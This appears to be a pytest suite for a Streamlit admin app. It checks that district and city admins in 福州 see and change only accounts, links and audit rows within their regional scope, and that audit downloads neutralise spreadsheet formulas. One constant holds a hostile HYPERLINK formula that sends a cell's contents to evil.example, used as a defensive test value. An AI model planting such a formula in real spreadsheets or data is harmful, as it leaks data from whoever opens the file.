"""An admin sees and changes only what is in their scope: accounts, display links, the audit
log and its download, password resets, and the global indicator catalog — in lib and on the pages.

The cast, on both backends: ``city`` (admin of 福州市 350100000000), ``jinan`` (admin of 晋安区
350111000000), ``jinan_ana`` (analyst of a 晋安 township) and ``gulou`` (analyst of 鼓楼区
350102000000, outside 晋安).
"""
from __future__ import annotations

import contextlib
import datetime as dt
import io
from unittest import mock

import pandas as pd
import pytest

from lib import export
from lib.auth import links, accounts
from lib.auth.accounts import AccountError
from lib.warehouse import audit, accounts_store
from lib.warehouse.reference import indicators_frame
from lib.warehouse.scope import Scope
from tests.apptest_util import app_env, run_page
from tests.test_app import _url
from tests.test_auth import PW

JINAN, GULOU, CITY = "350111000000", "350102000000", "350100000000"
IN_JINAN = {"jinan", "jinan_ana"}
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DAY = dt.timedelta(days=1)


@pytest.fixture
def world(engine):
    """Accounts, links and audit rows in and out of 晋安区; returns the display links' user names."""
    city = accounts.create_user(engine, "city", PW, "admin", CITY)
    jinan = accounts.create_user(engine, "jinan", PW, "admin", JINAN, by="city")
    accounts.create_user(engine, "jinan_ana", PW, "analyst", "350111001000", by="jinan")
    accounts.create_user(engine, "gulou", PW, "analyst", GULOU, by="city")
    t_city = links.create_link(engine, city, CITY, DAY, "city projector")
    t_gulou = links.create_link(engine, city, GULOU, DAY, "gulou hall")
    t_jinan = links.create_link(engine, jinan, JINAN, DAY, "jinan hall")
    shown = {name: links.resolve(engine, tok).username
             for name, tok in (("city", t_city), ("gulou", t_gulou), ("jinan", t_jinan))}
    audit.record_now(engine, "gulou_only_action", "a 鼓楼 upload", "gulou")
    audit.record_now(engine, "scope_refused", "region=350111000000", shown["gulou"])
    audit.record_now(engine, "scope_refused", "region=350102000000", shown["jinan"])
    audit.record_now(engine, "login_failed", "unknown user")  # username NULL
    audit.record_now(engine, "demo_build", "batch 1", "system")
    audit.record_now(engine, "note", HOSTILE, "jinan_ana")
    return {"city": city, "jinan": jinan, "tokens": {"city": t_city, "gulou": t_gulou,
                                                      "jinan": t_jinan}, "display": shown}


def _audit_users(frame: pd.DataFrame) -> set:
    return set(frame["username"].where(frame["username"].notna(), None))


# --- lib: lists narrowed in SQL ------------------------------------------------------------------

def test_district_admin_lists_only_accounts_in_scope(engine, world):
    frame = accounts.list_users(engine, within=Scope("350111"))
    assert set(frame["username"]) == IN_JINAN
    assert frame["scope_code"].str.startswith("350111").all()
    assert set(accounts_store.users_frame(engine, Scope("350111"))["username"]) == IN_JINAN
    assert set(accounts.list_users(engine, within=Scope("3501"))["username"]) == IN_JINAN | {"city", "gulou"}
    assert set(accounts.list_users(engine, within=Scope.everything())["username"]) == IN_JINAN | {"city", "gulou"}


def test_district_admin_lists_only_links_in_scope(engine, world):
    assert links.list_links(engine, within=Scope("350111"))["label"].tolist() == ["jinan hall"]
    assert set(links.list_links(engine, within=Scope("3501"))["label"]) == {"city projector",
                                                                    "gulou hall", "jinan hall"}


def test_district_admin_reads_only_audit_rows_of_their_scope(engine, world):
    log = accounts_store.audit_frame(engine, scope=Scope("350111"))
    assert _audit_users(log) == {"jinan", "jinan_ana", world["display"]["jinan"]}
    assert "gulou" not in log["detail"].str.cat(sep=" ")  # 鼓楼's own rows, not mere mentions
    assert not log["username"].isna().any()  # unknown-user rows are the city's
    actions = accounts_store.audit_actions(engine, Scope("350111"))
    assert "gulou_only_action" not in actions and "demo_build" not in actions
    assert {"user_add", "link_add", "note", "scope_refused"} <= set(actions)
    # filtering by an out-of-scope name through the same function still yields nothing
    assert accounts_store.audit_frame(engine, username="gulou", scope=Scope("350111")).empty


def test_city_admin_reads_the_whole_audit_log(engine, world):
    log = accounts_store.audit_frame(engine, scope=Scope("3501"))
    assert {"gulou", "system", "city", world["display"]["gulou"]} <= _audit_users(log)
    assert log["username"].isna().any()  # the failed login of an unknown name
    assert len(log) == len(accounts_store.audit_frame(engine, scope=Scope.everything()))
    assert "gulou_only_action" in accounts_store.audit_actions(engine, Scope("3501"))


def test_township_admin_does_not_see_the_district_admins_rows(engine, world):
    accounts.create_user(engine, "town", PW, "admin", "350111001000", by="jinan")  # a row of jinan's
    audit.record_now(engine, "note", "", "town")
    log = accounts_store.audit_frame(engine, scope=Scope("350111001"))
    assert _audit_users(log) == {"jinan_ana", "town"}


# --- lib: changes refused outside the scope ------------------------------------------------------

def test_district_admin_cannot_revoke_the_citys_link(engine, world):
    token = world["tokens"]["city"]
    with pytest.raises(AccountError) as err:
        links.revoke(engine, links.token_hash(token), by=world["jinan"])
    assert err.value.code == "scope_refused"
    assert links.resolve(engine, token) is not None
    refusals = accounts_store.audit_frame(engine, username="jinan", action="scope_refused", scope=Scope.everything())
    assert refusals["detail"].str.contains("link_revoke").any()
    assert links.revoke(engine, links.token_hash(world["tokens"]["jinan"]), by=world["jinan"])


@pytest.mark.parametrize("region", [CITY, GULOU, "350000000000"])
def test_district_admin_cannot_create_a_link_outside_or_above_the_scope(engine, world, region):
    before = len(links.list_links(engine, within=Scope.everything()))
    with pytest.raises(AccountError) as err:
        links.create_link(engine, world["jinan"], region, DAY)
    assert err.value.code == "scope_refused"
    assert len(links.list_links(engine, within=Scope.everything())) == before


def _hash(engine, username):
    with engine.connect() as conn:
        return accounts_store.fetch_user(conn, username)["password_hash"]


def test_district_admin_cannot_reset_a_password_outside_the_scope(engine, world):
    before, n_audit = _hash(engine, "gulou"), len(accounts_store.audit_frame(engine, scope=Scope.everything()))
    with pytest.raises(AccountError) as err:
        accounts.set_password(engine, "gulou", "reset by jinan 9", by="jinan", within=Scope("350111"))
    assert err.value.code == "scope_refused"
    assert _hash(engine, "gulou") == before
    assert len(accounts_store.audit_frame(engine, scope=Scope.everything())) == n_audit
    accounts.set_password(engine, "jinan_ana", "reset by jinan 9", by="jinan", within=Scope("350111"))
    assert _hash(engine, "jinan_ana") != before
    accounts.set_password(engine, "gulou", "reset by city 99", by="city", within=Scope("3501"))


def test_district_admin_cannot_edit_an_account_outside_the_scope(engine, world):
    with pytest.raises(AccountError) as err:
        accounts.update_account(engine, "gulou", by="jinan", active=False, within=Scope("350111"))
    assert err.value.code == "scope_refused"
    assert accounts.get_user(engine, "gulou").active


# --- the audit download is formula-neutralised ---------------------------------------------------

def test_audit_csv_neutralises_formulas(engine, world):
    log = accounts_store.audit_frame(engine, scope=Scope("350111"))
    assert HOSTILE in log["detail"].tolist()  # stored as typed
    read = pd.read_csv(io.BytesIO(export.csv_bytes(log)), encoding="utf-8-sig", dtype=str)
    assert "'" + HOSTILE in read["detail"].tolist()
    assert not read.map(lambda v: isinstance(v, str) and v[:1] in "=+-@\t\r").any().any()


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (HOSTILE, "'" + HOSTILE),
    ("晋安区", "晋安区"), ("a=b", "a=b"), ("", ""),
])
def test_neutralise_formulas_text_cells(value, expected):
    frame = pd.DataFrame({"text": [value], "cat": pd.Categorical([value]),
                          "typed": pd.array([value], dtype="string")})
    out = export.neutralise_formulas(frame)
    assert out.iloc[0].tolist() == [expected] * 3
    assert frame.iloc[0, 0] == value  # the input is not changed


def test_neutralise_formulas_keeps_numbers_dates_and_missing_and_fixes_headers():
    frame = pd.DataFrame({"n": [-1.5, 2.0], "when": pd.to_datetime(["2026-01-01", "2026-02-01"]),
                          "=bad": [None, "x"]})
    out = export.neutralise_formulas(frame)
    assert out.columns.tolist() == ["n", "when", "'=bad"]
    assert out["n"].tolist() == [-1.5, 2.0] and out["when"].equals(frame["when"])
    assert pd.isna(out["'=bad"].iloc[0]) and out["'=bad"].iloc[1] == "x"


def test_xlsx_download_is_neutralised():
    from openpyxl import load_workbook

    data = export.xlsx_bytes(pd.DataFrame({"detail": [HOSTILE]}), "audit")
    cell = load_workbook(io.BytesIO(data))["audit"]["A2"]
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"


# --- the pages, signed in through the login form (HALFSKY_AUTH unset, the real gate) -------------

class _Session:
    """One signed-in AppTest session; records every file the runs offer for download."""

    def __init__(self, engine, username: str):
        url, schema = _url(engine)
        self.env = dict(url=url, schema=schema, demo=False, auth=True)
        self.files: dict[str, bytes] = {}
        with self._ctx():
            self.at = run_page()
        self.at.text_input(key="login_user").input(username)
        self.at.text_input(key="login_password").input(PW)
        self.at.button(key="login_submit").click()
        self.run()
        assert not self.at.exception, self.at.exception
        with pytest.raises(KeyError):  # signed in: the login form is gone
            self.at.text_input(key="login_user")

    @contextlib.contextmanager
    def _ctx(self):
        from streamlit.runtime.media_file_manager import MediaFileManager

        add, files = MediaFileManager.add, self.files

        def recording(mgr, data, mimetype, coordinates, file_name=None, *a, **kw):
            url = add(mgr, data, mimetype, coordinates, file_name, *a, **kw)
            files[url] = data
            return url

        with app_env(**self.env), mock.patch.object(MediaFileManager, "add", recording):
            yield

    def run(self):
        with self._ctx():
            self.at.run()
        return self.at

    def open(self, page: str):
        self.at.switch_page(page)
        at = self.run()
        assert not at.exception, at.exception
        return at

    def table_with(self, column: str) -> pd.DataFrame:
        found = [d.value for d in self.at.dataframe if column in d.value.columns]
        assert len(found) == 1, column
        return found[0]

    def audit_csv(self) -> pd.DataFrame:
        button = self.at.get("download_button")
        proto = [b.proto for b in button if b.proto.label == "下载 CSV"][0]
        return pd.read_csv(io.BytesIO(self.files[proto.url]), encoding="utf-8-sig", dtype=str)


@pytest.fixture
def fresh_cache():
    from lib.ui import data

    data.clear_cache()
    yield


def test_district_admin_pages_show_only_their_scope(engine, world, fresh_cache):
    s = _Session(engine, "jinan")
    at = s.open("views/admin.py")
    assert set(s.table_with("锁定至")["用户名"]) == IN_JINAN
    assert at.selectbox(key="edit_name").options == sorted(IN_JINAN)
    assert s.table_with("备注")["备注"].tolist() == ["jinan hall"]
    jinan_hash = links.token_hash(world["tokens"]["jinan"])
    assert [o.split(" ")[0] for o in at.selectbox(key="link_pick").options] == [jinan_hash[:8]]
    assert CITY not in " ".join(at.selectbox(key="link_region").options)
    assert set(at.selectbox(key="audit_user").options) == {"全部", *IN_JINAN}
    assert "gulou_only_action" not in at.selectbox(key="audit_action").options
    log = s.table_with("操作").rename(columns={"用户名": "username"})
    assert _audit_users(log) <= IN_JINAN | {world["display"]["jinan"]}
    assert "jinan" in _audit_users(log)  # the login through the form above
    csv = s.audit_csv()
    assert set(csv["username"].dropna()) <= IN_JINAN | {world["display"]["jinan"]}
    assert "'" + HOSTILE in csv["detail"].tolist() and HOSTILE not in csv["detail"].tolist()

    at = s.open("views/targets.py")
    assert "管理指标（管理员）" in [h.value for h in at.subheader]
    assert any("只有市级管理员" in c.value for c in at.caption)
    assert not [b for b in at.button if b.key in ("t_adm_save", "t_add_submit")]


def test_city_admin_pages_show_everything_and_may_edit_targets(engine, world, fresh_cache):
    s = _Session(engine, "city")
    at = s.open("views/admin.py")
    assert set(s.table_with("锁定至")["用户名"]) == IN_JINAN | {"city", "gulou"}
    assert set(s.table_with("备注")["备注"]) == {"city projector", "gulou hall", "jinan hall"}
    assert "gulou" in at.selectbox(key="audit_user").options
    assert "gulou_only_action" in at.selectbox(key="audit_action").options
    assert "gulou" in _audit_users(s.table_with("操作").rename(columns={"用户名": "username"}))

    at = s.open("views/targets.py")
    assert not any("只有市级管理员" in c.value for c in at.caption)
    at.selectbox(key="t_adm_code").set_value("H02")
    s.run()
    at.number_input(key="t_adm_value_H02").set_value(66.5)
    at.button(key="t_adm_save").click()
    s.run()
    assert not at.exception, at.exception
    assert indicators_frame(engine).set_index("code").loc["H02", "target_value"] == 66.5


def test_admin_tables_read_in_the_ui_language():
    from lib.ui.widgets import labelled

    frame = pd.DataFrame({"username": ["jinan"], "role": ["analyst"], "scope_code": ["350111000000"],
                          "locked_until": [None], "odd": [1]})
    zh = labelled(frame, "zh", regions={"350111000000": "晋安区"})
    assert list(zh.columns) == ["用户名", "角色", "权限范围", "锁定至", "odd"]
    assert zh.iloc[0].tolist()[:3] == ["jinan", "数据员", "晋安区 350111000000"]
    en = labelled(frame, "en")
    assert list(en.columns)[:3] == ["User", "Role", "Scope"]
    assert en.iloc[0]["Scope"] == "350111000000" and en.iloc[0]["Role"] == "Analyst"
    assert zh.iloc[0]["锁定至"] == ""  # an account never locked: blank, not "None"
    assert frame.columns[0] == "username"  # the caller's frame is left as it was


def test_admin_tables_show_times_to_the_minute_and_blank_when_missing():
    import datetime as dt

    from lib.ui.widgets import labelled

    frame = pd.DataFrame({"username": ["a", "b"],
                          "locked_until": [dt.datetime(2026, 12, 7, 9, 5, 33), None],
                          "created_at": pd.to_datetime(["2026-01-02 03:04:05", None])})
    zh = labelled(frame, "zh")
    assert zh["锁定至"].tolist() == ["2026-12-07 09:05", ""]
    assert zh[[c for c in zh.columns if c not in ("用户名", "锁定至")][0]].tolist() == [
        "2026-01-02 03:04", ""]
